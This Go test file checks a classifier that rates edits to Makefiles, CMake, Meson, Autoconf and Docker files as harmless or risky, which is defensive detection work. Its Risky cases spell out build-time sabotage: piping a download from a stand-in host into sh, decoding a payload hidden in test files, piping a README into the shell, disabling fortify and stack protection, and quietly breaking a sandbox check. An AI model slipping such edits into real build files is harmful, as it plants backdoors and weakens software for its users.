package shape

import (
	"strings"
	"testing"
)

func replaceOnce(t *testing.T, s, from, to string) string {
	t.Helper()
	if strings.Count(s, from) != 1 || from == to {
		t.Fatalf("%q stands there %d times", from, strings.Count(s, from))
	}
	return strings.Replace(s, from, to, 1)
}

func times(s string, n int) string { return strings.Repeat(s, n) }

func TestMake(t *testing.T) {
	const old = `# how to build
CFLAGS = -O2
CPPFLAGS = -D_FORTIFY_SOURCE=2
FOO_VERSION = 1.2.3
LIB_OBJS += a.o
LIB_OBJS += c.o
prog_SOURCES = main.c \
	util.c \
	util.h

define recipe
# part of it
endef

all: prog
	# said aloud
	$(CC) -o prog $(LIB_OBJS)
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a comment":          {"Makefile", old, with("# how to build", "# how it's built"), Harmless},
		"an empty line":      {"Makefile", old, with("all: prog", "\nall: prog"), Harmless},
		"a source file":      {"Makefile.am", old, with("util.c \\", "util.c \\\n\tmore.c \\"), Harmless},
		"a source file less": {"Makefile.am", old, with("\tutil.c \\\n", ""), Harmless},
		"an object": {
			"Makefile", old,
			with("LIB_OBJS += c.o", "LIB_OBJS += b.o\nLIB_OBJS += c.o"), Harmless,
		},
		"a newer version":               {"Makefile", old, with("1.2.3", "1.2.4"), Harmless},
		"another level":                 {"Makefile", old, with("-O2", "-O0"), Plain},
		"data that is run":              {"Makefile", old, with("\t$(CC)", "\t@sh doc/a.dat\n\t$(CC)"), Risky},
		"text that is sourced":          {"Makefile", old, with("\t$(CC)", "\t. ./tests/a.txt\n\t$(CC)"), Risky},
		"data that is included":         {"Makefile", old, with("all: prog", "-include doc/a.txt\nall: prog"), Risky},
		"a makefile that is included":   {"Makefile", old, with("all: prog", "include a.mk\nall: prog"), Plain},
		"a pipe into the shell":         {"Makefile", old, with("\t$(CC)", "\tsed 1d README | $(SHELL)\n\t$(CC)"), Risky},
		"a file before the shell":       {"Makefile", old, with("\t$(CC)", "\tsh < tools/a\n\t$(CC)"), Risky},
		"a command in a variable":       {"Makefile", old, with("all: prog", "X != sh tools/a\nall: prog"), Risky},
		"a comparison":                  {"Makefile", old, with("\t$(CC)", "\ttest $(X) != a\n\t$(CC)"), Plain},
		"a script that is run":          {"Makefile", old, with("\t$(CC)", "\tsh tools/a.sh\n\t$(CC)"), Risky},
		"an older version":              {"Makefile", old, with("1.2.3", "1.2.2"), Plain},
		"a comment that goes on":        {"Makefile", old, with("# how to build", "# how to build \\"), Plain},
		"a variable in a list":          {"Makefile.am", old, with("util.c \\", "util.c \\\n\t$(X) \\"), Plain},
		"a library in a list":           {"Makefile.am", old, with("util.c \\", "util.c \\\n\tlib.a \\"), Plain},
		"a flag in a list":              {"Makefile.am", old, with("util.c \\", "util.c -Dx \\"), Plain},
		"an absolute path in a list":    {"Makefile.am", old, with("util.c \\", "util.c /tmp/x.c \\"), Plain},
		"a comment in a list":           {"Makefile.am", old, with("util.c \\", "util.c \\\n# \\"), Plain},
		"a comment in a definition":     {"Makefile", old, with("# part of it", "# a part"), Plain},
		"a comment in a recipe":         {"Makefile", old, with("\t# said aloud", "\t# said"), Plain},
		"code of C":                     {"makefile.h", "# define A 1\n", "# define A 0\n", Plain},
		"code in a makefile":            {"makefile.x", "#define A 1\n", "#define A 0\n", Plain},
		"an option's value":             {"Makefile", "A_SRC = -include a.h\n", "A_SRC = -include b.h a.h\n", Plain},
		"a shared library":              {"Makefile", "A_OBJS = a.o\n", "A_OBJS = a.o libx.so.1\n", Plain},
		"a recipe":                      {"Makefile", old, with("-o prog", "-o prog2"), Plain},
		"an object before a recipe":     {"Makefile", old, with("all: prog\n", "all: prog\nLIB_OBJS += b.o\n"), Plain},
		"comments that are substituted": {"Makefile.in", old, with("# how to build", "# @HOW@"), Plain},
		"another sign of recipes":       {"Makefile", old, with("# how to build", ".RECIPEPREFIX = #"), Plain},
		"with another sign, a comment": {
			"Makefile", ".RECIPEPREFIX = #\n" + old,
			".RECIPEPREFIX = #\n" + with("# how to build", "# x"), Plain,
		},
		"a protection turned off":         {"Makefile", old, with("FORTIFY_SOURCE=2", "FORTIFY_SOURCE=0"), Risky},
		"a protection taken out":          {"Makefile", old, with(" -D_FORTIFY_SOURCE=2", ""), Risky},
		"a command that runs":             {"Makefile", old, with("1.2.3", "$(shell cat v)"), Risky},
		"a command that fetches":          {"Makefile", old, old + "\tcurl -O https://x.test/a\n", Risky},
		"a command that decodes":          {"Makefile", old, old + "\ttail -c +100 tests/files/a.xz | xz -dc > a\n", Risky},
		"characters changed":              {"Makefile", old, old + "\tcat a | tr \"\\t \\-_\" \" \\t_\\-\" > b\n", Risky},
		"a comment about a command":       {"Makefile", old, with("# how to build", "# curl -O is not used"), Harmless},
		"a comment in the last line":      {"Makefile", old, old + "# end", Harmless},
		"homoglyphs in a list of sources": {"Makefile.am", old, with("util.c", "utіl.c"), Plain},
	}.check(t)
}

func TestCMake(t *testing.T) {
	const old = `cmake_minimum_required(VERSION 3.10)
project(a VERSION 1.0.0 LANGUAGES C)
# the program
add_executable(prog main.c # first
    util.c)
set(SRC a.c b.c)
set(FLAGS -O2)
#[[ more
to say ]]
set(TEXT "
# not a comment
")
check_c_source_compiles("
        #include <linux/landlock.h>
        int main(void) { return 0; }
    " HAVE_LANDLOCK)
check_c_source_compiles("int main(void) { return 0; }" WORKS)
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	const path = "src/CMakeLists.txt"
	edits{
		"a comment":                    {path, old, with("# the program", "# a program"), Harmless},
		"a comment in a command":       {path, old, with("# first", "# the first"), Harmless},
		"a comment in brackets":        {path, old, with("to say ]]", "to tell ]]"), Harmless},
		"a source file":                {path, old, with("    util.c)", "    util.c\n    more.c)"), Harmless},
		"a source file in a variable":  {path, old, with("a.c b.c", "a.c aa.c b.c"), Harmless},
		"the version":                  {path, old, with("1.0.0", "1.1.0"), Harmless},
		"white space":                  {path, old, with("set(SRC a.c b.c)", "set(SRC\n  a.c\n  b.c\n)"), Harmless},
		"a header that CMake makes":    {"config.h.cmake", "#cmakedefine A\n", "#define A\n", Plain},
		"one that hides":               {"config.cmake", "#cmakedefine A\n", "#cmakedefine B\n", Plain},
		"an option's value":            {path, "set(A -include a.h b.c)\n", "set(A -include x.h a.h b.c)\n", Plain},
		"a flag":                       {path, old, with("-O2", "-O0"), Plain},
		"a comment in a text":          {path, old, with("# not a comment", "# none"), Plain},
		"a generator":                  {path, old, with("a.c b.c", "a.c $<x:b.c> b.c"), Plain},
		"a variable":                   {path, old, with("a.c b.c", "a.c ${X} b.c"), Plain},
		"a library":                    {path, old, with("    util.c)", "    util.c x.a)"), Plain},
		"the compiler":                 {path, "set(CMAKE_C_COMPILER cc.c)\n", "set(CMAKE_C_COMPILER cc.c evil.c)\n", Plain},
		"a comment that opens":         {path, old, with("# the program", "#[[ the program"), Plain},
		"a comment that closes":        {path, old, with("to say ]]", "]] set(X y)"), Plain},
		"a quote that opens":           {path, old, with("# the program", "\"# the program"), Plain},
		"another minimum":              {path, old, with("3.10", "3.5"), Plain},
		"a harmless check":             {path, old, with(`return 0; }" WORKS`, `return 1; }" WORKS`), Plain},
		"a full stop in a check":       {path, old, with("landlock.h>\n", "landlock.h>\n.\n"), Risky},
		"a comment in a check":         {path, old, with("landlock.h>\n", "landlock.h>\n# x\n"), Risky},
		"a check taken out":            {path, old, with("        #include <linux/landlock.h>\n", ""), Risky},
		"a command at build time":      {path, old, old + "add_custom_command(OUTPUT x COMMAND y)\n", Risky},
		"a command at configuration":   {path, old, old + "execute_process(COMMAND y)\n", Risky},
		"code of others":               {path, old, old + "FetchContent_Declare(x URL https://x.test)\n", Risky},
		"a protection":                 {path, old, with("-O2", "-O2 -fno-stack-protector"), Risky},
		"a linker's option":            {path, old, old + "target_link_options(prog PRIVATE -Wl,-z,norelro)\n", Risky},
		"the same in another case":     {path, old, old + "Execute_Process(COMMAND y)\n", Risky},
		"with a blank before brackets": {path, old, old + "file (DOWNLOAD https://x.test a)\n", Risky},
	}.check(t)
}

func TestMeson(t *testing.T) {
	const old = `project('a', 'c', version: '1.0.0')
# sources
sources = files(
    'a.c', # one
    'b.c',
)
more = ['x.c', 'y.c']
text = '''
# not a comment
'''
dep = dependency('z', version: '>=1.2')
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a comment":           {"meson.build", old, with("# sources", "# the sources"), Harmless},
		"a source file":       {"meson.build", old, with("    'b.c',", "    'aa.c',\n    'b.c',"), Harmless},
		"one in a list":       {"meson.build", old, with("'y.c'", "'y.c', 'z.c'"), Harmless},
		"the version":         {"meson.build", old, with("1.0.0", "1.1.0"), Harmless},
		"a comment in a text": {"meson.build", old, with("# not a comment", "# none"), Plain},
		"an option's value":   {"meson.build", "a = ['-include', 'a.h']\n", "a = ['-include', 'x.h', 'a.h']\n", Plain},
		"a format":            {"meson.build", old, with("'b.c',", "'b.c', '@0@'.format(x),"), Plain},
		"another requirement": {"meson.build", old, with(">=1.2", ">=1.1"), Plain},
		"a quote that opens":  {"meson.build", old, with("# sources", "'# sources"), Plain},
		"a command":           {"meson.build", old, old + "run_command('x')\n", Risky},
		"a protection": {
			"meson.build", old,
			old + "add_project_arguments('-U_FORTIFY_SOURCE', language: 'c')\n", Risky,
		},
		"a script that installs": {"meson.build", old, old + "meson.add_install_script('x.sh')\n", Risky},
	}.check(t)
}

func TestAutoconf(t *testing.T) {
	const old = `dnl about this
AC_INIT([a], [1.0.0], [a@x.test])
# a comment
AC_CHECK_FUNCS([strlcpy],
# inside
	[x=1])
cat >conf <<EOF
# in a document
EOF
y='
# in quotes
'
AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[
#include <linux/landlock.h>
	void sandbox(void) { }
]], [[]])], [z=1], [z=0])
CFLAGS="$CFLAGS -fstack-protector-strong"
# the end
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"dnl":                    {"configure.ac", old, with("dnl about this", "dnl about it"), Harmless},
		"a comment":              {"configure.ac", old, with("# a comment", "# some comment"), Harmless},
		"a comment at the end":   {"configure.ac", old, with("# the end", "# that is all"), Harmless},
		"the version":            {"configure.ac", old, with("1.0.0", "1.1.0"), Harmless},
		"a macro file":           {"configure.ac", old, old + "m4_include([m4/a.m4])\n", Risky},
		"a command of build.rs":  {"build.rs", "fn main() {}\n", "fn main() { Command::new(\"a\").status(); }\n", Risky},
		"inside":                 {"configure.ac", old, with("# inside", "# within"), Plain},
		"dnl inside":             {"configure.ac", old, with("# inside", "# inside\ndnl x"), Plain},
		"in a document":          {"configure.ac", old, with("# in a document", "# in the file"), Plain},
		"in quotes":              {"configure.ac", old, with("# in quotes", "# quoted"), Plain},
		"a comment that opens":   {"configure.ac", old, with("# a comment", "# a comment ["), Plain},
		"a comment that goes on": {"configure.ac", old, with("# a comment", "# a comment \\"), Plain},
		"dnl that isn't":         {"configure.ac", old, with("dnl about this", "dnl_about"), Plain},
		"other quotes":           {"configure.ac", old, with("dnl about this", "changequote(<,>)"), Plain},
		"a full stop in a check": {"configure.ac", old, with("landlock.h>\n", "landlock.h>\n.\n"), Risky},
		"dnl in a check":         {"configure.ac", old, with("landlock.h>\n", "landlock.h>\ndnl x\n"), Risky},
		"a protection off":       {"configure.ac", old, with("-fstack-protector-strong", "-fno-stack-protector"), Risky},
		"a protection gone":      {"configure.ac", old, with(" -fstack-protector-strong", ""), Risky},
		"a command of m4":        {"m4/x.m4", old, old + "m4_esyscmd([x])\n", Risky},
		"a command of config":    {"configure.ac", old, old + "AC_CONFIG_COMMANDS([x], [y])\n", Risky},
		"eval":                   {"configure.ac", old, old + "eval $x\n", Risky},
	}.check(t)
}

func TestDocker(t *testing.T) {
	const old = "# base\nFROM alpine:3.18 AS build\nARG GO_VERSION=1.21.0\nRUN apk add \\\n    # compiler\n    gcc\n"
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer image":          {"Dockerfile", old, with("3.18", "3.19"), Harmless},
		"a newer version":        {"docker/Dockerfile.ci", old, with("1.21.0", "1.22.0"), Harmless},
		"a comment":              {"Dockerfile", old, with("# base", "# the base"), Harmless},
		"a package":              {"Dockerfile", old, with("gcc", "gcc make"), Plain},
		"a comment within":       {"Dockerfile", old, with("# compiler", "# a compiler"), Plain},
		"a comment that goes on": {"Dockerfile", old, with("# base", "# base \\"), Plain},
		"a hash taken off":       {"Dockerfile", "FROM a:1@sha256:" + times("0", 64) + "\n", "FROM a:2\n", Risky},
		"another image":          {"Dockerfile", old, with("alpine:3.18", "alpime:3.19"), Risky},
		"another registry":       {"Dockerfile", old, with("alpine:3.18", "x.test/alpine:3.19"), Risky},
		"a copy from an image":   {"Dockerfile", old, old + "COPY --from=x.test/a /a /a\n", Risky},
		"a copy from a stage":    {"Dockerfile", old, old + "COPY --from=builder /a /a\n", Plain},
		"another reader":         {"Dockerfile", old, "# syntax=evil/reader:1\n" + old, Risky},
		"Docker's own reader":    {"Dockerfile", old, "# syntax=docker/dockerfile:1\n" + old, Plain},
		"ADD of a URL":           {"Dockerfile", old, old + "ADD https://x.test/a /a\n", Risky},
		"fetch and run":          {"Dockerfile", old, old + "RUN wget -qO- https://x.test | sh\n", Risky},
	}.check(t)
}

func replaceAll(s, from, to string) string { return strings.ReplaceAll(s, from, to) }
